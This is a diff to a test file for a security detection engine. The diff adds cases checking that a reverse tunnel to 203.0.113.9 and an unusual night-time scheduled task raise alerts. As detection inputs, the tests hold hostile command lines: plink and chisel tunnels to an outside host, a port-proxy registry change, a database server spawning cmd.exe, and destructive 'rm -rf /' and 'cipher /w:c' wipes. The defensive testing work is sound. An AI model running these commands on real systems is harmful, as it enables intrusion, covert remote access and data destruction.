@@ -24,6 +24,8 @@ describe('[SIG-15] a deed is told from its command, path or parent', () => {
     [connectionProxy, 'process_started detail="plink -D1080 -batch host"', 'somebody opened a tunnel on SRV-VC'],
     [connectionProxy, 'process_started detail="plink -D 1080 -batch host"', 'somebody opened a tunnel on SRV-VC'],
     [connectionProxy, 'process_started detail="ssh -p 2222 10.2.0.9"', 'nothing'],
+    [connectionProxy, 'process_started detail="C:\\Windows\\Temp\\kb12.exe -N -P 443 -R 8531:127.0.0.1:3389 203.0.113.9"', 'somebody opened a tunnel on SRV-VC'],
+    [connectionProxy, 'process_started detail="sync.exe -r 443 -d 8080"', 'nothing'],
     [connectionProxy, 'process_started detail="C:\\x\\chisel.exe client 203.0.113.9:443 R:socks"', 'somebody opened a tunnel on SRV-VC'],
     [connectionProxy, 'registry_changed object="HKLM\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp" detail=x', 'somebody opened a port proxy on SRV-VC'],
     [unexpectedChild, 'process_started detail="C:\\SQL\\Binn\\sqlservr.exe · cmd.exe /c whoami"', 'somebody ran a command through the database server on SRV-VC'],
@@ -48,6 +50,12 @@ describe('[SIG-15] a deed is told from its command, path or parent', () => {
     const weight = (before: string): number => Math.max(0, ...run(scene(`${PLANT}\n${before}\nD6 10:00 ${command('whoami')}`), [unexpectedChild]).signals.filter(({ at }) => at > Date.UTC(2026, 5, 2)).map(({ terms }) => weightOf(terms)))
     expect(weight(nightly)).toBeGreaterThanOrEqual(8)
     expect(weight(changing)).toBeLessThan(8)
+  })
+  it('[SIG-15] a task that runs what no task of any host ran before is told on a host of the plant at night', () => {
+    const usual = 'D-20..D-1 09:00 task_created actor=e.lambert host=SRV-VC object="\\Vendor\\Collect" detail="C:\\Vendor\\collect.exe"'
+    const told = (command: string): number => run(scene(`${PLANT}\n${usual}\nD6 23:30 task_created actor=e.lambert host=SRV-VC object="\\Vendor\\Collect" detail="${command}"`), [autostart]).signals.filter(({ at }) => at > Date.UTC(2026, 5, 2)).length
+    expect(told('C:\\Vendor\\reader.exe -poll')).toBe(1)
+    expect(told('C:\\Vendor\\collect.exe')).toBe(0)
   })
   it('weighs by the strongest sort and two for each further one', () => {
     const both = run(scene(`${PLANT}\nD6 10:00 process_started host=SRV-VC detail="rm -rf /"\nD6 10:01 process_started host=SRV-VC detail="cipher /w:c"`), [destructiveCommand]).signals
